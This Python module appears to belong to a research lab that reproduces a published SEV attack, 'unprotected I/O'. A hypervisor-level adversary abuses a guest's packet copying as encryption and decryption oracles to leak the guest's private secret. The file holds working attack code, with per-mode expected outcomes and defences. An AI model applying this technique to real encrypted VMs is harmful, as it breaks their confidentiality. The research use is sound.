"""A8: what a guest hands to its devices goes through the clear, and so does what it gets."""

from __future__ import annotations

from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.corpus import difference, xor
from cbit.attacks.lab.guest import HLT, NPF, SECRET, SHARED, VIEW, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Setup, Stand
from cbit.attacks.lab.tools import Thwarted, gpa_of
from cbit.attacks.power import Power
from cbit.crypto.memory_modes import Mode as Engine
from cbit.spec.address import BLOCK, PAGE

INBOX, OUTBOX, RECORD = 0x30000, 0x31000, 0x32000
PACKET = 64  #: bytes
HEADER = b"answer 2026 for "

#: A service as every guest with encryption is one: a packet arrives in a shared buffer and is copied to a
#: private one; the answer is made in private memory and copied to a shared buffer.  Its secret never is.
SERVICE = f"""
again:
    hlt
    mov rsi, {VIEW + SHARED + 8:#x}
    mov rdi, {INBOX:#x}
    mov ecx, {PACKET // 8}
    rep movsq
    lea rsi, header[rip]               # the answer: a header, whom it is for, and zeros
    movups xmm0, [rsi]
    movups [{OUTBOX:#x}], xmm0
    movups xmm1, [{RECORD:#x}]
    movups [{OUTBOX + 16:#x}], xmm1
    xorps xmm2, xmm2
    movups [{OUTBOX + 32:#x}], xmm2
    movups [{OUTBOX + 48:#x}], xmm2
    mov rsi, {OUTBOX:#x}
    mov rdi, {VIEW + SHARED + PAGE:#x}
    mov ecx, {PACKET // 8}
    rep movsq
    jmp again
header:
    .ascii "{HEADER.decode()}"
"""


def service(stand: Stand) -> Scene:
    """Start a service that keeps a secret in private memory, where its packets are copied to as well."""
    secret = stand.entropy.draw(PACKET)
    guest = stand.guest(Program(SERVICE, data=((RECORD, b"nobody so far..."),)), secret=secret)
    guest.until_idle()
    facts = Facts({"secret_at": SECRET, "inbox": INBOX, "outbox": OUTBOX, "record_at": RECORD})
    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, PACKET) == secret)


@attack(
    title="Unprotected I/O: packets as oracles",
    experiment="E6",
    paper="Li et al., USENIX Security 2019 (attacks.md A8)",
    holds={
        Power.MAP_MEMORY,
        Power.FLUSH_CACHES,
        Power.EDIT_NESTED_TABLES,
        Power.TAKE_EXITS,
        Power.CLIENT,
    },
    expect={
        Mode.NONE: does_not_apply("nothing is encrypted: the host reads and writes what it likes"),
        Mode.SME: succeeds("the tweak constants are known"),
        Mode.SEV: succeeds("the tweak constants are known, and a device needs shared buffers"),
        Mode.SEV_ES: SUCCEEDS,
        Mode.SEV_SNP: stopped_by("the RMP refuses the host's write"),
    },
    defences={"fresh": "Zen 2 and later: the constants are others at each boot, and not the published ones"},
    victim=service,
    setups={"fresh": Setup(profile="rome", engine=Engine.XEX)},
)
def unprotected_io(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Let a service encrypt what is sent to it, and decrypt what is put in the way of its answers.

    1. A packet is chosen plaintext.  The victim copies it to private memory: there is its ciphertext, which
       is valid anywhere once plaintext and ciphertext are corrected by the difference of the tweaks.
    2. The shared page of answers is made absent.  The victim has made an answer in private memory and faults
       as it copies the answer out; its ciphertext is replaced by that of the secret, corrected as well.
    3. The victim goes on: it decrypts the secret and sends it.
    """
    spa = hands.memory.spa
    inbox, record = spa(facts.number("inbox")), spa(facts.number("record_at"))
    name, moved = b"the adversary...", difference(inbox, record)
    first = hands.client.ask(xor(name, moved) + bytes(PACKET - BLOCK), PACKET)
    log.step("an honest answer, to a packet of the adversary's", first)
    hands.caches.write_back()
    cells = xor(hands.memory.read(inbox, BLOCK), moved)
    hands.memory.write(record, cells)
    hands.caches.write_back()
    log.step("encryption oracle: a block of the packet, as ciphertext for the record's place", cells)
    hands.tables.unmap(SHARED + PAGE)
    hands.client.put(bytes(PACKET))
    exit = hands.victim.until(NPF)
    if gpa_of(exit.info_2) & -PAGE != SHARED + PAGE:
        raise Thwarted("the victim faults elsewhere")
    hands.caches.write_back()
    log.step("the victim is about to copy its answer out; the answer's ciphertext is replaced")
    outbox, secret = spa(facts.number("outbox")), spa(facts.number("secret_at"))
    differences = []
    for at in range(0, PACKET, BLOCK):
        differences.append(difference(secret + at, outbox + at))
        hands.memory.write(outbox + at, xor(hands.memory.read(secret + at, BLOCK), differences[-1]))
    hands.caches.write_back()
    hands.tables.home(SHARED + PAGE)
    hands.victim.until(HLT)
    hands.victim.skip(1)
    answer = hands.client.answer(PACKET)
    log.step("decryption oracle: what the victim sends", answer)
    loot = xor(answer, b"".join(differences))
    log.step("corrected by the difference of the tweaks", loot)
    last = hands.client.ask(bytes(PACKET), PACKET)
    log.step("an answer is made out to the name that was forged", last)
    if name not in last:
        raise Thwarted("the forged record decrypts to something else")
    log.figure(
        "bytes decrypted with each packet",
        len(loot),
        "bytes",
        published="20 (200 B/s at 10 packets/s)",
        source="Li et al. (attacks.md A8)",
        difference="the size of this victim's packets; an SSH packet leaves fewer blocks to replace",
    )
    return loot
